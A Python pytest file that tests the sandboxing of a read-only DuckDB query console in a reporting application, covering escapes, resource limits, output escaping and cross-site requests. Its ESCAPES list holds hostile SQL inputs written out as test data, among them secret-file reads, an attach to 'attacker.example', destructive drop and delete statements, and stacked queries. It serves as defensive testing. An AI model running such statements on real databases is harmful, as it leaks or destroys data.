"""The console: any question to the snapshot, and nothing else of this machine, whatever the question costs."""

from __future__ import annotations

import csv
import io
import os
import time
from collections.abc import Iterator
from pathlib import Path

import duckdb
import httpx
import psutil
import pytest
from hatchling.builders.wheel import WheelBuilder
from pyarrow import parquet

from publish.reading import DATABASE
from reports.console.columns import QUERIES, read_starters, starters_of
from reports.console.statement import only_statement
from reports.console.supervisor import Console, Limits
from reports.problems import BadQuestion, NothingToRead
from tests.browser.example.names import SCRIPT
from tests.browser.example_snapshot import publish_example
from tests.browser.live_reports import client_of

SECRET = "nobody-may-read-this"
ENOUGH = Limits(seconds=60, memory_mib=512)


@pytest.fixture(scope="module")
def database(example_home: Path) -> Path:
    """The DuckDB file of the example snapshot."""
    return (example_home / "snapshots" / "current" / "assettrail.duckdb").resolve()


@pytest.fixture(scope="module")
def console() -> Iterator[Console]:
    """A console with time enough on a loaded machine."""
    console = Console(ENOUGH)
    yield console
    console.close()


@pytest.fixture(scope="module")
def secret(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A file of this machine, readable by this user, in every form that DuckDB reads."""
    folder = tmp_path_factory.mktemp("secret")
    (folder / "secret.csv").write_text(f"a\n{SECRET}\n", encoding="utf-8")
    (folder / "secret.json").write_text(f'[{{"a": "{SECRET}"}}]', encoding="utf-8")
    return folder


def ask(console: Console, database: Path, sql: str, rows: int = 100) -> list[tuple[object, ...]]:
    """Return the rows of a statement."""
    table = console.ask(database, sql, rows, 1 << 20).table
    return list(zip(*(column.to_pylist() for column in table.columns), strict=True))


ESCAPES = [
    "select * from read_csv('{folder}/secret.csv')",
    "select * from read_text('{folder}/secret.csv')",
    "select * from read_blob('{folder}/secret.csv')",
    "select * from read_json('{folder}/secret.json')",
    "from '{folder}/secret.csv'",
    "select * from glob('{folder}/*')",
    "select * from sniff_csv('{folder}/secret.csv')",
    "select * from parquet_metadata('{folder}/secret.csv')",
    "select * from query('from read_csv(''{folder}/secret.csv'')')",
    "explain analyze select * from read_csv('{folder}/secret.csv')",
    "with stolen as (from read_text('{folder}/secret.csv')) select * from stolen",
    "attach '{folder}/new.duckdb' as new",
    "attach 'https://attacker.example/x.duckdb'",
    "copy marts.fct_cases to '{folder}/out.csv'",
    "copy (select 1) to '{folder}/out.parquet'",
    "explain analyze copy (select 1) to '{folder}/out.csv'",
    "export database '{folder}/out'",
    "install httpfs",
    "load httpfs",
    "pragma database_list",
    "pragma enable_external_access",
    "set enable_external_access = true",
    "set memory_limit = '100GB'",
    "reset lock_configuration",
    "set variable x = 1",
    "call pragma_version()",
    "use memory",
    "begin",
    "checkpoint",
    "create table x (i int)",
    "create temp table x as select 1",
    "create macro stolen() as 1",
    "create secret (type http, bearer_token 'x')",
    "insert into marts.fct_cases select * from marts.fct_cases",
    "update marts.fct_cases set status = 'closed'",
    "delete from marts.fct_cases",
    "drop table marts.fct_cases",
    "alter table marts.fct_cases add column x int",
    "truncate marts.fct_cases",
    "prepare stolen as select 1",
    "update extensions",
    "select 1; drop table marts.fct_cases",
    "select 1; select 2",
    "select getenv('HOME')",
    "select * from asked",
    "select * from os",
    "select * from duckdb_secrets()",
    "",
    "-- nothing",
    "selec 1",
]


@pytest.mark.parametrize("sql", ESCAPES)
def test_nothing_but_the_snapshot_can_be_reached(console: Console, database: Path, secret: Path, sql: str) -> None:
    """A question that reads a file, leaves one, or changes a setting opens this machine to every analyst."""
    before = sorted(path.name for path in secret.iterdir())
    with pytest.raises(BadQuestion) as told:
        ask(console, database, sql.format(folder=secret))
    assert SECRET not in str(told.value)
    assert sorted(path.name for path in secret.iterdir()) == before
    assert ask(console, database, "select count(*) > 0 from marts.fct_cases") == [(True,)]


def test_the_process_has_nothing_to_give(console: Console, database: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A process that holds the house's secrets in its environment gives them with the first hole that is found."""
    monkeypatch.setenv("ASSETTRAIL_CLOUDINARY__API_SECRET", SECRET)
    fresh = Console(ENOUGH)
    try:
        ask(fresh, database, "select 1")
        worker = psutil.Process(fresh.worker_pid)
        assert worker.pid != os.getpid()
        assert SECRET not in "".join(worker.environ().values())
        assert worker.rlimit(psutil.RLIMIT_FSIZE) == (0, 0)
        assert worker.cwd() == "/"
        assert ask(fresh, database, "select current_setting('enable_external_access')") == [(False,)]
        assert ask(fresh, database, "select current_setting('lock_configuration')") == [(True,)]
    finally:
        fresh.close()
    assert not psutil.pid_exists(worker.pid)


@pytest.mark.parametrize(
    "sql",
    [
        "with one as (select 1 as a) select a from one",
        "from marts.fct_cases select case_id_trading_grid",
        "values (1)",
        "describe marts.fct_cases",
        "show all tables",
        "summarize marts.fct_cases",
        "explain select 1",
        "explain analyze select count(*) from marts.fct_cases",
        "select 1; -- and a remark",
    ],
)
def test_what_only_reads_is_run(console: Console, database: Path, sql: str) -> None:
    """A console that refuses honest questions sends analysts to copies of the data."""
    assert ask(console, database, sql)


def test_every_worked_query_is_one_that_the_console_runs() -> None:
    """A starter that is refused is worse than none."""
    starters = read_starters()
    assert len(starters) == 23
    for starter in starters:
        assert only_statement(starter.sql)[0].startswith(("select", "with")), starter.title


def test_an_installed_assettrail_has_the_worked_queries() -> None:
    """Examples that stand in the checkout alone are missing where analysts work."""
    checkout = Path(__file__).parents[3]
    shipped = WheelBuilder(str(checkout)).recurse_included_files()
    [queries] = [file for file in shipped if file.distribution_path == "reports/console/queries.md"]
    assert len(starters_of(Path(queries.path).read_text(encoding="utf-8"))) == 23
    assert checkout / queries.distribution_path == QUERIES


@pytest.mark.parametrize(
    ("sql", "told"),
    [
        ("select count(*) from range(10000000) a, range(10000000) b where a.range + b.range = -1", "3 sec"),
        ("with recursive r as (select 1 i union all select i + 1 from r) select max(i) from r", "3 sec"),
    ],
)
def test_a_question_without_an_end_is_stopped_and_the_next_is_answered(database: Path, sql: str, told: str) -> None:
    """One question that runs for ever takes the console from everybody."""
    console = Console(Limits(seconds=3, memory_mib=512))
    try:
        ask(console, database, "select 1")
        first = console.worker_pid
        started = time.monotonic()
        with pytest.raises(BadQuestion, match=told):
            ask(console, database, sql)
        assert time.monotonic() - started < 30
        assert first is not None
        assert not psutil.pid_exists(first)
        assert ask(console, database, "select 2") == [(2,)]
    finally:
        console.close()


@pytest.mark.parametrize(
    "sql",
    [
        "select list(repeat('x', 100000) || i) from range(1000000) t(i)",
        "select repeat('x', 10485760) || i from range(3000) t(i)",
        "select repeat('x', 4000000000)",
    ],
)
def test_a_question_that_needs_too_much_memory_is_stopped(database: Path, sql: str) -> None:
    """A question that takes the machine's memory stops everything that runs on it."""
    console = Console(Limits(seconds=60, memory_mib=256))
    try:
        with pytest.raises(BadQuestion, match=r"(?i)memory"):
            console.ask(database, sql, 1_000_000, 1 << 40)
        assert ask(console, database, "select 2") == [(2,)]
    finally:
        console.close()


def test_rows_and_bytes_are_capped_and_it_is_told(console: Console, database: Path) -> None:
    """A result that is cut without a word is read as all there is."""
    answer = console.ask(database, "from range(1000000)", 1_000, 1 << 30)
    assert (answer.table.num_rows, answer.is_cut) == (1_000, True)
    answer = console.ask(database, "select repeat('x', 1000) from range(100000)", 100_000, 1 << 20)
    assert answer.is_cut
    assert answer.table.nbytes < 2 << 20
    answer = console.ask(database, "select repeat('x', 10485760) as long", 100, 1 << 20)
    assert (answer.table.num_rows, answer.is_cut, len(answer.table["long"][0].as_py())) == (1, False, 10_485_760)
    assert not console.ask(database, "from range(1000)", 1_000, 1 << 30).is_cut


def test_one_question_runs_at_a_time(database: Path) -> None:
    """Two questions at once would need twice the memory that the limit allows."""
    console = Console(Limits(seconds=60, memory_mib=256, waiting_seconds=0.05))
    with console._turn, pytest.raises(NothingToRead, match="one runs at a time"):
        ask(console, database, "select 1")
    assert console.worker_pid is None


def test_a_worker_that_died_is_replaced(console: Console, database: Path) -> None:
    """A process that the system killed must not take the console with it."""
    ask(console, database, "select 1")
    assert console.worker_pid is not None
    psutil.Process(console.worker_pid).kill()
    psutil.Process(console.worker_pid).wait(10) if psutil.pid_exists(console.worker_pid) else None
    assert ask(console, database, "select 2") == [(2,)]


def test_the_page_shows_rows_and_the_files_have_them(client: httpx.Client) -> None:
    """An analyst who gets other rows in the file than on the page reports one of them."""
    sql = "select case_id_trading_grid, 1.5 as share, '=1+1' as formula from marts.fct_cases order by all"
    page = client.get("/sql", params={"q": sql})
    assert page.status_code == 200
    twin = client.get("/sql.json", params={"q": sql}).json()
    rows = list(csv.reader(io.StringIO(client.get("/sql.csv", params={"q": sql}).text)))
    assert [column["name"] for column in twin["columns"]] == rows[0]
    assert [row[0] for row in twin["rows"]] == [row[0] for row in rows[1:]]
    assert {row[2] for row in rows[1:]} == {"'=1+1"}
    assert all(row[0] in page.text for row in twin["rows"])
    answer = client.get("/sql.parquet", params={"q": sql})
    assert parquet.read_table(io.BytesIO(answer.content))["formula"].to_pylist() == ["=1+1"] * len(twin["rows"])
    assert answer.headers["assettrail-snapshot"] in answer.headers["content-disposition"]
    assert client.get("/sql.rows.json", params={"q": sql}).json()["filters"] == {"q": sql}
    assert client.get("/sql.csv-metadata.json", params={"q": sql}).json()["tableSchema"]["columns"][0]["name"]
    twice = client.get("/sql.csv", params={"q": "select 1 as a, 2 as a"}).text
    assert twice.split() == ["a,a_2", "1,2"]


def test_a_hostile_cell_is_only_text(client: httpx.Client) -> None:
    """A name from a vendor that runs in the analyst's browser asks what it likes in their name."""
    page = client.get("/sql", params={"q": f"select '{SCRIPT.replace(chr(39), chr(39) * 2)}' as \"<b>x</b>\""}).text
    assert "<script" not in page
    assert "<b>x" not in page
    assert "10,485,760 characters" in client.get("/sql", params={"q": "select repeat('x', 10485760)"}).text


def test_a_wrong_statement_keeps_its_text_and_says_what_is_wrong(client: httpx.Client) -> None:
    """Whoever loses the statement with the mistake in it begins anew."""
    page = client.get("/sql", params={"q": "select wrong from marts.fct_cases"})
    assert page.status_code == 400
    assert "select wrong from marts.fct_cases</textarea>" in page.text
    assert "BinderException" in page.text
    answer = client.get("/sql.csv", params={"q": "select wrong from marts.fct_cases"})
    assert answer.status_code == 400
    assert "BinderException" in answer.json()["found"]
    assert client.get("/sql", params={"q": "x" * 9_000}).status_code == 400


def test_a_link_of_another_site_shows_a_query_and_does_not_run_it(client: httpx.Client) -> None:
    """A picture on a foreign page that runs queries spends the analyst's name and the house's memory."""
    sql = "select 4711 + 1 as answer"
    shown = client.get("/sql", params={"q": sql}, headers={"sec-fetch-site": "cross-site"}).text
    assert sql in shown
    assert "4712" not in shown
    assert "not run" in shown
    assert "4712" in client.get("/sql", params={"q": sql}, headers={"sec-fetch-site": "same-origin"}).text


def test_what_a_table_means_is_read_and_not_its_markdown(tmp_path: Path) -> None:
    """Marks between words, cut in the middle, are what an analyst reads of a control first."""
    folder = publish_example(tmp_path, letters=1)
    with duckdb.connect(str(folder / DATABASE)) as connection:
        connection.execute(
            f"comment on table reports.rpt_cases is '**Rule.** Uses of `x` <b>. {'long ' * 40}**Remedy.** Ask.'"
        )
        connection.execute("comment on column reports.rpt_cases.case_key is 'Key of `a`.'")
    with client_of(tmp_path) as client:
        page = client.get("/sql").raise_for_status().text
    assert "<strong>Rule.</strong> Uses of <code>x</code> &lt;b&gt;. long" in page
    assert "<strong>Remedy.</strong> Ask.</p>" in page
    assert "Key of <code>a</code>." in page
    assert "**" not in page.partition('id="tables"')[2].partition("</section>")[0]


def test_tables_and_starters_stand_beside_the_query(client: httpx.Client) -> None:
    """Nobody asks a table whose name they do not know."""
    page = client.get("/sql").text
    assert "marts.fct_asset_uses" in page
    assert "How do uses of assets stand?" in page
